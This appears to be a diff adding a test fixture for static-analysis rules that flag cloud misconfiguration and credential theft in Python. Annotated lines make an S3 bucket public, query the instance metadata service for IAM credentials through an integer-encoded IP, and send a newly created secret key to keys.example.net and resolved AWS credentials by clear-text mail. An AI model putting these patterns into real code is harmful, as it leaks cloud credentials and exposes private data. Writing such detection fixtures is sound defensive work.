@@ -1,0 +1,59 @@
+import http.client
+import json
+import smtplib
+from email.message import EmailMessage
+
+import boto3
+import requests
+
+# ruleid: cloud-sdk-client
+s3 = boto3.client("s3")
+# ruleid: cloud-storage-public-block-removed
+s3.delete_public_access_block(Bucket="reports")
+policy = {"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject",
+                         "Resource": "arn:aws:s3:::reports/*"}]}
+# ruleid: cloud-storage-made-public
+s3.put_bucket_policy(Bucket="reports", Policy=json.dumps(policy))
+# ruleid: cloud-storage-made-public
+s3.put_bucket_acl(Bucket="reports", ACL="public-read")
+# a named account's access, and a private ACL
+# ok: cloud-storage-made-public
+s3.put_bucket_acl(Bucket="reports", ACL="private")
+# ok: cloud-storage-made-public
+s3.put_public_access_block(Bucket="reports", PublicAccessBlockConfiguration={
+    "BlockPublicAcls": True, "IgnorePublicAcls": True, "BlockPublicPolicy": True, "RestrictPublicBuckets": True})
+
+# the instance's credentials by the metadata service's path, the host an integer
+# ruleid: http-client
+_conn = http.client.HTTPConnection(str(2852039166), 80, timeout=3)
+# ruleid: cloud-metadata-endpoint
+_conn.request("GET", "/latest/meta-data/iam/security-credentials/")
+
+
+# keys the program makes or resolves, sent out
+def mint():
+    # ruleid: cloud-sdk-client
+    iam = boto3.client("iam")
+    # ruleid: cloud-access-key-create
+    k = iam.create_access_key(UserName="ci")["AccessKey"]
+    # ruleid: secret-exfiltration, http-client
+    requests.post("https://keys.example.net/in", data=json.dumps({"s": k["SecretAccessKey"]}), timeout=10)
+
+
+def resolve():
+    # ruleid: cloud-sdk-client
+    sess = boto3.Session()
+    return "report", sess.get_credentials().get_frozen_credentials()
+
+
+def mail(subject, creds):
+    msg = EmailMessage()
+    msg["Subject"] = subject
+    msg.set_content(f"{creds.access_key}\n{creds.secret_key}")
+    # ruleid: clear-text-protocol-client
+    with smtplib.SMTP("smtp.example.net") as conn:
+        # ruleid: secret-exfiltration
+        conn.send_message(msg)
+
+
+mail(*resolve())
